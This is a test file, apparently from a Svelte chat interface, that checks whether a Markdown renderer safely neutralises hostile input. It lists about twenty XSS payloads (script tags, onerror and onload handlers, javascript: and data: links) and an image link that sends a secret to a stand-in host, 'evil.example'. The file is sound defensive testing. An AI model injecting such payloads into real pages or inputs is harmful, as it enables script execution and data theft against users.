@@ -1,0 +1,115 @@
+import { expect, test } from 'vitest';
+import { render } from 'vitest-browser-svelte';
+import { page } from 'vitest/browser';
+import '../../../app.css';
+import Markdown from './Markdown.svelte';
+
+/** Each tries to run a script or to load something. */
+const ATTACKS = [
+	'<script>window.attacked = true</script>',
+	'<img src=x onerror="window.attacked = true">',
+	'<svg onload="window.attacked = true"><circle/></svg>',
+	'<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
+	'<a href="javascript:window.attacked = true">x</a>',
+	'<style>body { display: none }</style>',
+	'<form action="https://evil.example"><input name=q></form>',
+	'[x](javascript:window.attacked=true)',
+	'[x](data:text/html,<script>parent.attacked=true</script>)',
+	'[x](<java\nscript:attacked>)',
+	'![x](javascript:window.attacked=true)',
+	'![x](https://evil.example/collect?secret=1)',
+	'![x](data:image/svg+xml,<svg onload=alert(1)>)',
+	'[![x](https://evil.example/i.png)](https://evil.example/)',
+	'<https://evil.example/"onmouseover="attacked=true>',
+	'[x](https://e.example/ "a\\" onmouseover=\\"attacked=true")',
+	'```"><script>attacked=true</script>\ncode\n```',
+	'| <img src=x onerror=attacked=true> |\n| --- |\n| <script>attacked=true</script> |',
+	'- [x] <b onmouseover="attacked=true">b</b>',
+	'[ref]\n\n[ref]: javascript:attacked=true',
+	'{@html "<script>attacked=true</script>"}'
+];
+
+test('no attack in markdown makes an element, a request or a script of its own', async () => {
+	await render(Markdown, { text: ATTACKS.join('\n\n') });
+	const root = page.getByTestId('markdown').element();
+	expect(root.querySelectorAll('script, style, iframe, img, form, svg:not(.lucide), object, embed, base')).toHaveLength(
+		0
+	);
+	const attributes = [...root.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
+	expect(attributes.filter(({ name }) => name.startsWith('on') || name === 'srcdoc' || name === 'src')).toEqual([]);
+	for (const link of root.querySelectorAll('a')) expect(link.href).toMatch(/^(https?:|mailto:)/);
+	expect('attacked' in window).toBe(false);
+	const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
+	expect(loaded.filter((name) => name.includes('evil.example'))).toEqual([]);
+});
+
+test('raw HTML is shown as the text it is', async () => {
+	const screen = await render(Markdown, { text: 'a <b>bold</b> word\n\n<div>\nblock\n</div>' });
+	await expect.element(screen.getByText('a <b>bold</b> word')).toBeVisible();
+	expect(screen.getByTestId('markdown').element().textContent).toContain('<div>\nblock\n</div>');
+});
+
+test('a link opens elsewhere and tells nothing of where it came from', async () => {
+	const screen = await render(Markdown, { text: '[docs](https://example.com/a) <me@example.com>' });
+	const link = screen.getByRole('link', { name: 'docs' });
+	await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+	await expect.element(link).toHaveAttribute('target', '_blank');
+	await expect
+		.element(screen.getByRole('link', { name: 'me@example.com' }))
+		.toHaveAttribute('href', 'mailto:me@example.com');
+});
+
+test('an image is a link that names its host, and is not loaded', async () => {
+	const screen = await render(Markdown, { text: '![A chart](https://images.example/chart.png)' });
+	await expect.element(screen.getByRole('link', { name: 'A chart (images.example)' })).toBeVisible();
+	expect(screen.getByTestId('markdown').element().querySelector('img')).toBeNull();
+});
+
+test('words stay together and apart as they were written', async () => {
+	const screen = await render(Markdown, { text: 'a**b**c *d* `e`f [g](https://e.org)h\ni' });
+	expect(screen.getByTestId('markdown').element().textContent).toBe('abc d ef gh\ni');
+});
+
+test('5,000 nested quotes do not take the page with them', async () => {
+	const screen = await render(Markdown, { text: `${'>'.repeat(5000)} deep\n\nafter` });
+	await expect.element(screen.getByText('after')).toBeVisible();
+});
+
+test('a growing text keeps the elements of its finished blocks, and ends as it would in one piece', async () => {
+	const text = '# Title\n\nOne.\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n| x | y |\n| - | - |\n| 1 | 2 |\n\nThe end.';
+	const screen = await render(Markdown, { text: '', isGrowing: true });
+	const root = screen.getByTestId('markdown').element();
+	let heading: Element | null = null;
+	for (let end = 1; end <= text.length; end += 3) {
+		await screen.rerender({ text: text.slice(0, end), isGrowing: true });
+		if (end > 15) heading ??= root.querySelector('h3');
+	}
+	await screen.rerender({ text, isGrowing: false });
+	expect(heading).not.toBeNull();
+	expect(root.querySelector('h3')).toBe(heading);
+
+	const grown = root.innerHTML;
+	await screen.unmount();
+	const whole = await render(Markdown, { text });
+	expect(withoutIds(grown)).toBe(withoutIds(whole.getByTestId('markdown').element().innerHTML));
+});
+
+test('a wide table and long code scroll in boxes of their own', async () => {
+	await page.viewport(390, 800);
+	const cells = Array.from({ length: 20 }, (_, index) => `column${index}`);
+	const text = `| ${cells.join(' | ')} |\n|${' - |'.repeat(20)}\n| ${cells.join(' | ')} |\n\n\`\`\`\n${'x'.repeat(500)}\n\`\`\``;
+	const screen = await render(Markdown, { text });
+	await expect.element(screen.getByRole('table')).toBeInTheDocument();
+	expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(390);
+});
+
+test('code has its language and a button that copies it', async () => {
+	const screen = await render(Markdown, { text: '```python\nprint(1)\n```' });
+	await expect.element(screen.getByText('python')).toBeVisible();
+	await expect.element(screen.getByRole('button', { name: 'Copy code' })).toBeVisible();
+});
+
+/** Svelte leaves comments where its blocks are. */
+function withoutIds(html: string): string {
+	return html.replace(/<!--.*?-->/gs, '');
+}
